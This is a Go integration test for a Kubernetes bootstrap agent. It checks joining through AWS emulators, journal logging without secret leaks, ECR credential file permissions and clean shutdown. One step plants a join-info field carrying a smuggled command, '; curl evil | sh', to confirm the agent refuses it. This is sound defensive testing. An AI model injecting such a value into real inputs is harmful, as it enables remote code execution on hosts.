//go:build integration

package integration

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"

	"github.com/kubestrap/kubestrap/internal/join/jointest"
	"github.com/kubestrap/kubestrap/internal/state"
	"github.com/kubestrap/kubestrap/internal/testutil"
	"github.com/kubestrap/kubestrap/internal/testutil/emulators"
)

// datagrams collects what arrives on a unixgram socket.
type datagrams struct {
	mu   sync.Mutex
	msgs [][]byte
}

func listenUnixgram(t *testing.T, path string) *datagrams {
	t.Helper()
	conn, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	d := &datagrams{}
	go func() {
		buf := make([]byte, 1<<20)
		for {
			n, err := conn.Read(buf)
			if err != nil {
				return
			}
			d.mu.Lock()
			d.msgs = append(d.msgs, append([]byte(nil), buf[:n]...))
			d.mu.Unlock()
		}
	}()
	t.Cleanup(func() { conn.Close() })
	return d
}

func (d *datagrams) all() [][]byte {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([][]byte(nil), d.msgs...)
}

func (d *datagrams) contains(sub string) bool {
	for _, m := range d.all() {
		if strings.Contains(string(m), sub) {
			return true
		}
	}
	return false
}

// journalEntries decodes native journal protocol datagrams into field maps.
func journalEntries(d *datagrams) []map[string]string {
	var out []map[string]string
	for _, m := range d.all() {
		e := map[string]string{}
		for len(m) > 0 {
			nl := bytes.IndexByte(m, '\n')
			if nl < 0 {
				break
			}
			line := m[:nl]
			if eq := bytes.IndexByte(line, '='); eq >= 0 {
				e[string(line[:eq])] = string(line[eq+1:])
				m = m[nl+1:]
				continue
			}
			// Binary-safe form: NAME\n<le64 length><value>\n
			key := string(line)
			m = m[nl+1:]
			if len(m) < 8 {
				break
			}
			n := binary.LittleEndian.Uint64(m[:8])
			e[key] = string(m[8 : 8+n])
			m = m[8+n+1:]
		}
		out = append(out, e)
	}
	return out
}

// countingProxy forwards to target and counts S3 GETs.
type countingProxy struct {
	mu                sync.Mutex
	gets, conditional int
}

func (c *countingProxy) counts() (int, int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.gets, c.conditional
}

func startCountingProxy(t *testing.T, target string) (*countingProxy, string) {
	t.Helper()
	u, _ := url.Parse(target)
	rp := httputil.NewSingleHostReverseProxy(u)
	c := &countingProxy{}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet {
			c.mu.Lock()
			c.gets++
			if r.Header.Get("If-None-Match") != "" {
				c.conditional++
			}
			c.mu.Unlock()
		}
		rp.ServeHTTP(w, r)
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { srv.Close() })
	return c, "http://" + l.Addr().String()
}

const workerToken = "abcdef.0123456789abcdef"

func TestWorkerAgentJoinsThroughEmulators(t *testing.T) {
	tmp := t.TempDir()
	moto := startMoto(t)
	imds := startIMDS(t, emulators.Instance{InstanceID: "i-0aaaabbbbccccdddd", Region: "eu-west-1", AccountID: "123456789012",
		PrivateIP: "10.0.2.7", Hostname: "ip-10-0-2-7.eu-west-1.compute.internal"})
	s3c := s3Client(moto)
	createBucket(t, s3c, "demo-bootstrap")
	proxy, proxyURL := startCountingProxy(t, moto)

	fakePath, err := testutil.BuildFakeKubeadm(tmp)
	if err != nil {
		t.Fatal(err)
	}
	fakeDir, fakeEtc := filepath.Join(tmp, "fake"), filepath.Join(tmp, "etc-kubernetes")
	for _, d := range []string{fakeDir, fakeEtc} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(fakeDir, "tokens"), []byte(workerToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	// The agent, with go-systemd's journal socket pointed at a socket of ours.
	journalSock := filepath.Join(tmp, "journal.sock")
	agent := buildAgent(t, tmp, "-X github.com/coreos/go-systemd/v22/journal.journalSocket="+journalSock)
	journal := listenUnixgram(t, journalSock)
	notifySock := filepath.Join(tmp, "notify.sock")
	notify := listenUnixgram(t, notifySock)

	stateDir, ecrPath := filepath.Join(tmp, "state"), filepath.Join(tmp, "kubelet", "config.json")
	cfgPath := filepath.Join(tmp, "config.yaml")
	cfg := fmt.Sprintf(`apiVersion: kubestrap.dev/v1alpha1
kind: AgentConfig
cluster: demo
role: worker
bucket: demo-bootstrap
stateDir: %s
nodeName: ip-10-0-2-7
aws: {s3UsePathStyle: true}
kubeadm: {path: %s, configDir: %s}
worker: {pollInterval: 200ms, expiryMargin: 1m}
ecr: {enabled: true, configPath: %s}
`, stateDir, fakePath, fakeEtc, ecrPath)
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(agent, "validate", "--config", cfgPath).CombinedOutput(); err != nil {
		t.Fatalf("validate: %v\n%s", err, out)
	}

	// stderr is a file whose device and inode JOURNAL_STREAM names: the
	// agent must then log natively to the journal socket.
	stderrPath := filepath.Join(tmp, "stderr.log")
	stderr, err := os.Create(stderrPath)
	if err != nil {
		t.Fatal(err)
	}
	var st syscall.Stat_t
	if err := syscall.Fstat(int(stderr.Fd()), &st); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(agent, "run", "--config", cfgPath)
	cmd.Stdout, cmd.Stderr = stderr, stderr
	cmd.Env = cleanEnv(t,
		"AWS_EC2_METADATA_SERVICE_ENDPOINT="+imds, "AWS_ENDPOINT_URL="+moto, "AWS_ENDPOINT_URL_S3="+proxyURL,
		"NOTIFY_SOCKET="+notifySock, fmt.Sprintf("JOURNAL_STREAM=%d:%d", st.Dev, st.Ino),
		"FAKE_KUBEADM_DIR="+fakeDir, "FAKE_KUBEADM_ETC="+fakeEtc)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGKILL)
		if t.Failed() {
			b, _ := os.ReadFile(stderrPath)
			t.Logf("agent stderr:\n%s", b)
			for _, e := range journalEntries(journal) {
				t.Logf("journal: %s %v", e["MESSAGE"], e)
			}
		}
	})

	// 1. Nothing published yet: the agent waits and says so.
	waitFor(t, "waiting STATUS", 30*time.Second, func() error {
		if notify.contains("STATUS=waiting for join info in s3://demo-bootstrap/demo/join.json") {
			return nil
		}
		return fmt.Errorf("datagrams so far: %d", len(notify.all()))
	})
	// 2. Hostile join info: refused, kubeadm never runs, polling goes on with conditional GETs.
	putObject(t, s3c, "demo-bootstrap", "demo/join.json", jointest.With("apiServerEndpoint", "10.0.1.10:6443; curl evil | sh"))
	waitFor(t, "refusal STATUS", 20*time.Second, func() error {
		if notify.contains("STATUS=refusing join info") {
			return nil
		}
		return fmt.Errorf("no refusal yet")
	})
	_, cond0 := proxy.counts()
	waitFor(t, "conditional polls", 20*time.Second, func() error {
		if _, c := proxy.counts(); c < cond0+3 {
			return fmt.Errorf("%d conditional GETs", c)
		}
		return nil
	})
	if b, _ := os.ReadFile(filepath.Join(fakeDir, "calls.log")); len(b) != 0 {
		t.Fatalf("kubeadm ran for hostile join info: %s", b)
	}
	// 3. Valid join info: the agent joins, says READY, and stops polling.
	now := time.Now().UTC()
	valid := jointest.ValidDoc()
	valid["issuedAt"], valid["expiresAt"], valid["generation"] = now.Format(time.RFC3339), now.Add(time.Hour).Format(time.RFC3339), 3
	valid["token"] = workerToken
	putObject(t, s3c, "demo-bootstrap", "demo/join.json", jointest.MustJSON(valid))
	waitFor(t, "READY", 30*time.Second, func() error {
		if notify.contains("READY=1") {
			return nil
		}
		return fmt.Errorf("no READY yet")
	})
	getsAtReady, _ := proxy.counts()
	time.Sleep(3 * time.Second) // 15 poll intervals
	if gets, _ := proxy.counts(); gets != getsAtReady {
		t.Errorf("%d S3 GETs after the join, want 0", gets-getsAtReady)
	}
	for _, want := range []string{"STATUS=joining 10.0.1.10:6443 with token abcdef", "joined as ip-10-0-2-7"} {
		if !notify.contains(want) {
			t.Errorf("no %q among the sd_notify datagrams", want)
		}
	}
	// 4. ECR credentials for the kubelet: 0600 and readable by a real docker-config client.
	waitFor(t, "ECR credentials", 20*time.Second, func() error { _, err := os.Stat(ecrPath); return err })
	if fi, _ := os.Stat(ecrPath); fi.Mode().Perm() != 0o600 {
		t.Errorf("ECR config mode %v, want 0600", fi.Mode().Perm())
	}
	t.Setenv("DOCKER_CONFIG", filepath.Dir(ecrPath))
	reg, _ := name.NewRegistry("123456789012.dkr.ecr.eu-west-1.amazonaws.com")
	auth, err := authn.DefaultKeychain.Resolve(reg)
	if err != nil {
		t.Fatal(err)
	}
	if ac, err := auth.Authorization(); err != nil || ac.Username != "AWS" || ac.Password == "" {
		t.Errorf("keychain read back user %q (err %v)", ac.Username, err)
	}
	// 5. Journal entries carry native fields; no secret anywhere.
	var joining, refusal map[string]string
	for _, e := range journalEntries(journal) {
		if strings.HasPrefix(e["MESSAGE"], "joining ") {
			joining = e
		}
		if strings.HasPrefix(e["MESSAGE"], "refusing join info") {
			refusal = e
		}
	}
	if joining == nil || joining["TOKEN_ID"] != "abcdef" || joining["GENERATION"] != "3" || joining["NODE"] != "ip-10-0-2-7" ||
		joining["PRIORITY"] != "6" || joining["SYSLOG_IDENTIFIER"] != "kubestrap" {
		t.Errorf("journal entry for the join = %v", joining)
	}
	if refusal == nil || refusal["PRIORITY"] != "4" {
		t.Errorf("journal entry for the refusal = %v (want PRIORITY=4)", refusal)
	}
	for _, m := range append(journal.all(), notify.all()...) {
		if bytes.Contains(m, []byte("0123456789abcdef")) {
			t.Fatalf("token secret reached the journal or STATUS: %q", m)
		}
	}
	if b, _ := os.ReadFile(stderrPath); len(bytes.TrimSpace(b)) != 0 {
		t.Errorf("with JOURNAL_STREAM set the agent still wrote to stderr: %q", b)
	}
	// 6. kubestrap status prints the state for humans and machines.
	out, err := exec.Command(agent, "status", "--state-dir", stateDir).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "Joined") || !strings.Contains(string(out), "generation 3, token abcdef") ||
		!strings.Contains(string(out), "ECR creds expire") || strings.Contains(string(out), "0123456789abcdef") {
		t.Errorf("status (err %v):\n%s", err, out)
	}
	out, err = exec.Command(agent, "status", "--json", "--state-dir", stateDir).Output()
	var js state.State
	if err != nil || json.Unmarshal(out, &js) != nil || js.Phase != state.PhaseJoined || js.JoinGeneration != 3 || js.ECRExpiresAt.IsZero() {
		t.Errorf("status --json (err %v): %s", err, out)
	}
	// 7. SIGTERM: a clean exit that tells systemd it is stopping.
	_ = cmd.Process.Signal(syscall.SIGTERM)
	select {
	case err := <-exited:
		if err != nil {
			t.Errorf("agent exited with %v after SIGTERM, want 0", err)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("agent did not exit within 20s of SIGTERM")
	}
	if !notify.contains("STOPPING=1") {
		t.Error("no STOPPING=1 on shutdown")
	}
}
